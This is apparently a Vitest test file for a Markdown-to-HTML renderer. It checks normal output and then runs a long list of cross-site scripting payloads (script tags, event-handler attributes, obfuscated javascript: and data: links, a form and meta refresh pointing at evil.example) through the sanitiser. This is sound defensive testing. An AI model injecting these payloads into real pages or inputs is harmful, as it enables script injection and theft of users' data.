import { JSDOM } from 'jsdom'
import { describe, expect, it } from 'vitest'
import { renderMarkdown, type MarkdownOptions } from '../../../src/console/reference/markdown.js'

const render = (text: string, options?: MarkdownOptions): string => renderMarkdown(text, options).markup.trim()

describe('Markdown is rendered', () => {
  it.each([
    ['an *item* of `orders`', '<p>an <em>item</em> of <code>orders</code></p>'],
    ['a < b && c > d', '<p>a &lt; b &amp;&amp; c &gt; d</p>'],
    ['`<script>`', '<p><code>&lt;script&gt;</code></p>'],
    ['1. a\n2. b', '<ol>\n<li>a</li>\n<li>b</li>\n</ol>'],
    ['3. a', '<ol start="3">\n<li>a</li>\n</ol>'],
    ['[guide](guides/start?a=1&b=2)', '<p><a href="guides/start?a=1&#38;b=2" rel="noreferrer noopener">guide</a></p>'],
    ['https://example.com', '<p><a href="https://example.com" rel="noreferrer noopener">https://example.com</a></p>'],
    ['![chart](https://example.com/a.png)', '<p><a href="https://example.com/a.png" rel="noreferrer noopener">chart</a></p>'],
    ['[![chart](a.png)](b)', '<p><a href="b" rel="noreferrer noopener">chart</a></p>'],
    ['line<br>line<br/>line', '<p>line<br>line<br>line</p>'],
    ['<p>see <a href="/x" target="_blank">x</a></p>', '<p>see <a href="/x" rel="noreferrer noopener">x</a></p>'],
  ])('%s', (text, markup) => expect(render(text)).toBe(markup)) // prettier-ignore

  it('with tables', () => {
    expect(render('| a | b |\n| :- | -: |\n| 1 | 2 |')).toMatch(/<th align="left">a<\/th>[^]*<td align="right">2<\/td>/)
  })

  it('with headings below those of the page, and ids on request', () => {
    expect(render('# A\n\n### B', { headingLevel: 3 })).toBe('<h3>A</h3>\n<h5>B</h5>')
    expect(render('# First steps!\n\n# First *steps*', { headingIds: true })).toBe(
      '<h1 id="first-steps">First steps!</h1>\n<h1 id="first-steps-1">First <em>steps</em></h1>',
    )
  })
})

describe('hostile Markdown', () => {
  const HOSTILE = [
    '<script>alert(1)</script>',
    '<script>alert(1)',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<ScRiPt src=//evil.example></ScRiPt >',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)" alt="x">',
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    '<a href="x"onmouseover="alert(1)">x</a>',
    `<a title='"><script>alert(1)</script>' href=x>x</a>`,
    '<p/onclick=alert(1)>x',
    '<svg><script>alert(1)</script></svg>',
    '<svg onload=alert(1)>',
    '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=key><button>x</button></form>',
    '<style>body { display: none }</style>',
    '<p style="position: fixed" class="bar" id="reference">x</p>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data="https://evil.example"></object><embed src=x><link rel=stylesheet href=x>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
    '<template><script>alert(1)</script></template>',
    '<!-- --><script>alert(1)</script>',
    '<!--><script>alert(1)</script>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<a href=\'javascript:alert("1")\'>x</a>',
    '```\n</code></pre><script>alert(1)</script>\n```',
    '[x](https://example.com "\\"onmouseover=\\"alert(1)")',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '</div></main></body><h1>x',
    '<table><tr><td><b><i>x',
    '<td>x</td><li>y</li></ul>',
    `${'> '.repeat(5000)}x`,
  ]

  it.each(HOSTILE)('%s', (text) => {
    // In a list item, which markup that is not closed, or closes more than it opened, would leave.
    const { document } = new JSDOM(`<ul><li id="outer">${render(text)}</li></ul><p id="after"></p>`).window
    const all = [...document.body.querySelectorAll('*')].filter(({ id }) => id !== 'outer' && id !== 'after')
    for (const element of all) {
      expect(element.localName).not.toMatch(/^(?:script|style|img|svg|math|iframe|form|input|button|base|meta|object|embed|link|textarea|template|noscript)$/) // prettier-ignore
      for (const { name, value } of element.attributes) {
        expect(['href', 'rel', 'align', 'start', 'title']).toContain(name)
        if (name === 'href') expect(new URL(value, 'https://console.example').protocol).toMatch(/^(?:https?|mailto):$/)
      }
    }
    expect(document.querySelector('#after')!.parentElement).toBe(document.body)
    expect(document.body.querySelector(':scope > ul')!.childElementCount).toBe(1)
  })

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    'java&#9;script:alert(1)',
    '&#x6A;avascript:alert(1)',
    'javascript&colon;alert(1)',
    'javascript&#58alert(1)',
    '&Tab;javascript:alert(1)',
    '\u0001javascript:alert(1)',
    '\u00a0javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:https://example.com/1',
    'intent://x',
  ])('the link %j', (url) => {
    for (const text of [`[x](<${url}>)`, `<a href="${url}">x</a>`, `<a href='${url}'>x</a>`, `<a href=${url}>x</a>`, `<${url}>`, `[x]\n\n[x]: ${url}`]) {
      const { document } = new JSDOM(`<base href="https://console.example/">${render(text)}`).window
      for (const { protocol } of document.querySelectorAll<HTMLAnchorElement>('a[href]')) expect(protocol).toBe('https:')
    } // prettier-ignore
  })
})
